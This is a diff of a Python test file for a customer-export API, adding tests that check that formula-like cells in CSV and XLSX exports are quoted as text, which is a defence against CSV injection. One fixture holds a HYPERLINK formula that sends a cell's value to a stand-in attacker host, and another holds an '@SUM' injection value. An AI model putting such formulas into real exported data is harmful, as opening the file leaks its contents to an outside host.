@@ -67,7 +67,8 @@ async def test_csv_export_is_masked_for_an_agent_and_plain_for_the_owner(client)
     assert "alice" not in await exported_actions()  # nothing unmasked left: no audit row
     plain = await client.get("/exports/customers", params={"tags_any": f"x{tag}"}, headers=OWNER)
     [row] = parse_csv(plain.content)
-    assert (row["phone"], row["email"], row["birthday"]) == (phone, f"{tag}@example.com", "1980-01-02")
+    # "+86…" would start a formula: quoted (OWASP CSV injection)
+    assert (row["phone"], row["email"], row["birthday"]) == ("'" + phone, f"{tag}@example.com", "1980-01-02")
     assert "olga" in await exported_actions()
 
 
@@ -88,3 +89,39 @@ async def test_export_refuses_bad_filters(client) -> None:
     assert response.status_code == 422
     response = await client.get("/exports/customers", params={"tier": "gold"}, headers=AGENT)
     assert response.status_code == 422 and response.json()["error"]["field"] == "tier"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+async def formula_customer(client) -> str:
+    tag = uuid.uuid4().hex[:6]
+    response = await client.post(
+        "/customers",
+        headers=MANAGER,
+        json={"name": f"{FORMULA}{tag}", "industry": "@SUM(1+1)", "team": "east", "owner": "olga", "tags": [f"-{tag}"]},
+    )
+    assert response.status_code == 201, response.text
+    return tag
+
+
+async def test_csv_and_xlsx_cells_that_would_run_as_formulas_are_quoted(client) -> None:
+    from openpyxl import load_workbook
+
+    tag = await formula_customer(client)
+    as_csv = await client.get("/exports/customers", params={"tags_any": f"-{tag}"}, headers=OWNER)
+    [row] = parse_csv(as_csv.content)
+    assert (row["name"], row["industry"], row["tags"]) == (f"'{FORMULA}{tag}", "'@SUM(1+1)", f"'-{tag}")
+    as_xlsx = await client.get("/exports/customers", params={"tags_any": f"-{tag}", "format": "xlsx"}, headers=OWNER)
+    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
+    name = sheet.cell(row=2, column=2)
+    assert name.data_type == "s" and name.value == f"'{FORMULA}{tag}"  # text, not a formula
+
+
+async def test_an_export_imports_back_to_the_same_values(client) -> None:
+    from customer.imports.rules import read_table
+
+    tag = await formula_customer(client)
+    exported = await client.get("/exports/customers", params={"tags_any": f"-{tag}"}, headers=OWNER)
+    [(_, values)] = read_table(exported.content, "csv")
+    assert (values["name"], values["industry"], values["tags"]) == (f"{FORMULA}{tag}", "@SUM(1+1)", f"-{tag}")
